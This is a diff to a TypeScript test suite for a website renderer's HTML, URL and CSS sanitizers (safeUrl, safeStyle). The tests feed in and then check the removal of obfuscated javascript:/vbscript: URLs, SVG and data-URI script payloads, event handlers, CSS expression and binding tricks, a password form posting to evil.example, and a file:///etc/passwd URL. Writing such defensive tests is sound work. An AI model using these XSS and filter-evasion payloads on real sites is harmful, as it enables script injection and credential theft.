@@ -11,6 +11,7 @@ import {
   renderSitemap,
   renderSitePages,
   type SiteData,
+  safeStyle,
   safeUrl,
   sitePages,
   withOneH1,
@@ -209,6 +210,125 @@ describe('site pages', () => {
     expect(body).toContain('&lt;img src=x onerror=alert(4)&gt;');
   });
 
+  it('lets through only allowed elements and attributes: data: for raster pictures in <img> only, no javascript: however spelt', () => {
+    const html = homeOf(
+      siteData({
+        content: onePage([
+          // javascript:/vbscript: in every spelling, in every URL attribute
+          ...[
+            'javascript:alert(1)',
+            '  javascript:alert(1)',
+            'java\u0000script:alert(1)',
+            'java\nscr\ript:alert(1)',
+            '&#106;avascript:alert(1)',
+            '&#x6A;&#x61;vascript&colon;alert(1)',
+            '&#0000106&#0000097vascript:alert(1)',
+            'javascript&Tab;:alert(1)',
+            'VBScript:msgbox(1)',
+          ].map((href) => ({ type: 'link', attributes: { href }, components: 'hostile link' })),
+          {
+            tagName: 'video',
+            attributes: { src: 'javascript:alert(2)', poster: 'data:image/png;base64,AAAA' },
+          },
+          { tagName: 'blockquote', attributes: { cite: 'vbscript:x' }, components: 'quote' },
+          // data: only in an <img>'s src, and only PNG, JPEG, GIF or WebP
+          { type: 'image', attributes: { src: 'data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Lz48L3N2Zz4=' } },
+          { type: 'image', attributes: { src: 'data:text/html;base64,PHNjcmlwdD4=' } },
+          { type: 'image', attributes: { src: 'data:image/jpeg;base64,/9j/' } },
+          {
+            type: 'image',
+            attributes: { src: 'data:image/webp;base64,UklG', srcset: 'data:image/svg+xml,x 2x' },
+          },
+          { type: 'link', attributes: { href: 'data:image/png;base64,AAAA' }, components: 'data link' },
+          // event handlers, in any case; attributes of no element; an unknown element's attributes
+          {
+            tagName: 'p',
+            attributes: { ONCLICK: 'alert(3)', onmouseover: 'alert(4)', formaction: 'javascript:x' },
+            components: 'para',
+          },
+          { tagName: 'img', attributes: { src: '/ok.png', onload: 'alert(5)', usemap: '#m', ismap: true } },
+          {
+            tagName: 'marquee',
+            attributes: { onstart: 'alert(6)', id: 'm1', style: 'color:red' },
+            components: 'kept text',
+          },
+          {
+            tagName: 'form',
+            attributes: { action: 'https://evil.example/steal' },
+            components: [
+              { tagName: 'input', attributes: { name: 'password' } },
+              { tagName: 'button', attributes: { formaction: 'javascript:alert(7)' }, components: 'Send' },
+            ],
+          },
+          { tagName: 'textarea', components: 'form data' },
+          {
+            tagName: 'math',
+            components: [{ tagName: 'mi', attributes: { href: 'javascript:alert(8)' }, components: 'x' }],
+          },
+          {
+            tagName: 'svg',
+            components: [
+              {
+                tagName: 'use',
+                attributes: { href: 'data:image/svg+xml,<svg id="x"><script>alert(9)</script></svg>#x' },
+              },
+              { tagName: 'image', attributes: { href: 'javascript:alert(10)' } },
+              { tagName: 'a', attributes: { 'xlink:href': 'javascript:alert(11)' }, components: 'svg link' },
+              {
+                tagName: 'rect',
+                attributes: { fill: 'url(https://evil.example/x.svg#p)', stroke: 'url(#local)', width: '4' },
+              },
+            ],
+          },
+          {
+            tagName: 'div',
+            attributes: { __proto__: 'x', constructor: 'y', 'data-ok': '1', 'aria-label': 'fine' },
+          },
+          // styles: unsafe declarations left out, the rest kept
+          {
+            tagName: 'div',
+            attributes: {
+              style:
+                'color:red;background:url(javascript:alert(12));width:expression(alert(13));behavior:url(x.htc);-moz-binding:url(x.xml#y);background-image:url("data:image/svg+xml,<svg/onload=alert(14)>");margin:0',
+            },
+            components: 'styled',
+          },
+          {
+            tagName: 'div',
+            attributes: { style: 'background:url(\\6a avascript:alert(15))' },
+            components: 'escaped',
+          },
+          {
+            tagName: 'div',
+            attributes: { style: 'background:u/**/rl(java/**/script:alert(16))' },
+            components: 'commented',
+          },
+        ]),
+      }),
+    );
+    const body = html.slice(html.indexOf('<body'), html.indexOf('</body>'));
+    expect(body).not.toMatch(
+      /javascript|vbscript|&#|alert|\son\w+=|svg\+xml|data:text|expression|binding|behavior/i,
+    );
+    expect(body).not.toMatch(/<(form|input|button|textarea|marquee|math|mi|use|image)\b/i);
+    expect(body).not.toMatch(/formaction|usemap|ismap|srcset|xlink|__proto__|constructor|evil\.example/i);
+    expect(body.match(/<a>hostile link<\/a>/g)).toHaveLength(9);
+    expect(body).toContain('<video></video>');
+    expect(body).toContain('<blockquote>quote</blockquote>');
+    expect(body).toContain('<img src="data:image/jpeg;base64,/9j/">');
+    expect(body).toContain('<img src="data:image/webp;base64,UklG">');
+    expect(body).toContain('<a>data link</a>');
+    expect(body).toContain('<p>para</p>');
+    expect(body).toContain('<img src="/ok.png">');
+    expect(body).toContain('kept textSend');
+    expect(body).not.toContain('form data');
+    expect(body).toContain('<a>svg link</a><rect stroke="url(#local)" width="4"></rect>');
+    expect(body).toContain('<div data-ok="1" aria-label="fine"></div>');
+    expect(body).toContain('<div style="color:red;margin:0">styled</div>');
+    expect(body).toContain('<div>escaped</div>');
+    expect(body).toContain('<div>commented</div>');
+  });
+
   it('keeps CSS from closing its style element', () => {
     const content = onePage([], { styles: 'p{color:red}</style><script>alert(1)</script>' });
     const html = homeOf(siteData({ content }));
@@ -282,15 +402,52 @@ describe('sitemap and robots', () => {
 });
 
 describe('safeUrl', () => {
-  it('allows relative, http(s), mailto, tel and inline images only', () => {
+  it('allows relative, http(s), mailto and tel links, and inline raster pictures for pictures only', () => {
     expect(safeUrl('/about')).toBe('/about');
+    expect(safeUrl('#contact')).toBe('#contact');
+    expect(safeUrl('/search?a=1&b=2')).toBe('/search?a=1&b=2');
     expect(safeUrl('https://x.example/a')).toBe('https://x.example/a');
     expect(safeUrl('mailto:a@b.c')).toBe('mailto:a@b.c');
-    expect(safeUrl('data:image/png;base64,AA')).toBe('data:image/png;base64,AA');
-    expect(safeUrl('javascript:alert(1)')).toBeUndefined();
-    expect(safeUrl('\u0001java\nscript:alert(1)')).toBeUndefined();
-    expect(safeUrl('vbscript:x')).toBeUndefined();
+    expect(safeUrl('tel:+351912')).toBe('tel:+351912');
+    expect(safeUrl('data:image/png;base64,AA')).toBeUndefined();
+    expect(safeUrl('data:image/png;base64,AA', 'image')).toBe('data:image/png;base64,AA');
+    expect(safeUrl(' DATA:image/GIF;base64,AA', 'image')).toBe('DATA:image/GIF;base64,AA');
+    expect(safeUrl('data:image/svg+xml;base64,AA', 'image')).toBeUndefined();
+    expect(safeUrl('data:image/png;base64,AA', 'media')).toBeUndefined();
+    expect(safeUrl('mailto:a@b.c', 'image')).toBeUndefined();
     expect(safeUrl('data:text/html,x')).toBeUndefined();
+  });
+
+  it.each([
+    'javascript:alert(1)',
+    '\u0001java\nscript:alert(1)',
+    ' \tJaVaScRiPt:alert(1)',
+    '&#106;avascript:alert(1)',
+    '&#x6a&#x61&#x76&#x61script:alert(1)',
+    'javascript&colon;alert(1)',
+    'java&Tab;script:alert(1)',
+    'java&NewLine;script:alert(1)',
+    'vbscript:x',
+    'VB\u00adScript:x',
+    'livescript:x',
+    'file:///etc/passwd',
+  ])('refuses %j for every kind', (url) => {
+    for (const kind of ['link', 'image', 'media'] as const) expect(safeUrl(url, kind)).toBeUndefined();
+  });
+});
+
+describe('safeStyle', () => {
+  it('keeps a safe style as written, and leaves out only the unsafe declarations', () => {
+    const style = 'padding:48px 24px;background:var(--primary,#007bff);color:#fff;';
+    expect(safeStyle(style)).toBe(style);
+    expect(safeStyle('background:url(/media/a.jpg);content:"a;b"')).toBe(
+      'background:url(/media/a.jpg);content:"a;b"',
+    );
+    expect(safeStyle('scroll-behavior:smooth')).toBe('scroll-behavior:smooth');
+    expect(safeStyle('color:red; background:url( "JavaScript:x" ) ; margin:0')).toBe('color:red;margin:0');
+    expect(safeStyle('width:expre\\ssion(alert(1))')).toBeUndefined();
+    expect(safeStyle('background:url(data:image/png;base64,AA)')).toBeUndefined();
+    expect(safeStyle('x:y;@import url(https://evil.example/a.css)')).toBe('x:y');
   });
 });
 
